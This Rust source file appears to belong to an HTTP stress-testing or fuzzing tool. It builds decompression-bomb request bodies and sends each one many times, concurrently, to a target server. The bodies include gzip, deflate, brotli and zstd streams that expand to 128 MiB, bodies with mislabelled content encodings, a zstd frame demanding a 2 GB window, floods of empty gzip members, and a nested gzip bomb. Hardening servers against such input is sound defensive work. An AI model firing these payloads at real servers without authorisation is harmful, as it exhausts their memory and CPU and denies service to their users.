//! Compressed bodies: of a few bytes that stand for many, and of what is no code.

use std::io::{self, Write};

use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};

use super::Attacking;
use super::door::{JSON, post};
use crate::Random;
use crate::hostile::field::Field;

/// What each of the bombs stands for, in bytes.
const UNPACKED: usize = 128 * 1024 * 1024;

pub(super) fn bombs(field: &Field, _: Random) -> Attacking<'_> {
    Box::pin(async move {
        let mut bodies = nonsense();
        bodies.extend(made().expect("memory takes whatever is written into it"));
        let requests = bodies
            .iter()
            .map(|(coding, body)| post(&format!("{JSON}content-encoding: {coding}\r\n"), body));
        let requests: Vec<_> = requests.collect();
        let each = requests
            .into_iter()
            .flat_map(|request| std::iter::repeat_n(request, field.many(20)));
        field.send_all(each, 8).await
    })
}

/// What is not what it says.
fn nonsense() -> Vec<(&'static str, Vec<u8>)> {
    let zeros = vec![0_u8; 1_900_000];
    // A frame that wants a window of two gigabytes, with a block that fills it.
    let window = [
        &[0x28, 0xb5, 0x2f, 0xfd, 0, 21 << 3][..],
        &[0xfa; 1_000_000],
    ]
    .concat();
    let each = ["gzip", "deflate", "br", "zstd", "gzip, gzip, gzip", "x"];
    let mut all: Vec<_> = each.map(|coding| (coding, zeros.clone())).into();
    all.push(("zstd", window));
    all
}

/// What is what it says, and a great deal of it.
fn made() -> io::Result<Vec<(&'static str, Vec<u8>)>> {
    let piece = vec![b' '; 1024 * 1024];
    let fill = |writer: &mut dyn Write| {
        (0..UNPACKED / piece.len()).try_for_each(|_| writer.write_all(&piece))
    };
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    fill(&mut gzip)?;
    let gzip = gzip.finish()?;
    let mut deflate = ZlibEncoder::new(Vec::new(), Compression::best());
    fill(&mut deflate)?;
    let mut brotli = Vec::new();
    let mut writer = brotli::CompressorWriter::new(&mut brotli, 4096, 5, 24);
    fill(&mut writer)?;
    drop(writer);
    let mut zstd = zstd::Encoder::new(Vec::new(), 3)?;
    fill(&mut zstd)?;
    // Members of nothing, as many as there is room for.
    let nothing = GzEncoder::new(Vec::new(), Compression::fast()).finish()?;
    let members = nothing.repeat(1_900_000 / nothing.len());
    // A bomb in a bomb, of which only one is unpacked.
    let mut nested = GzEncoder::new(Vec::new(), Compression::best());
    nested.write_all(&gzip)?;
    Ok(vec![
        ("gzip", gzip),
        ("deflate", deflate.finish()?),
        ("br", brotli),
        ("zstd", zstd.finish()?),
        ("gzip", members),
        ("gzip", nested.finish()?),
    ])
}
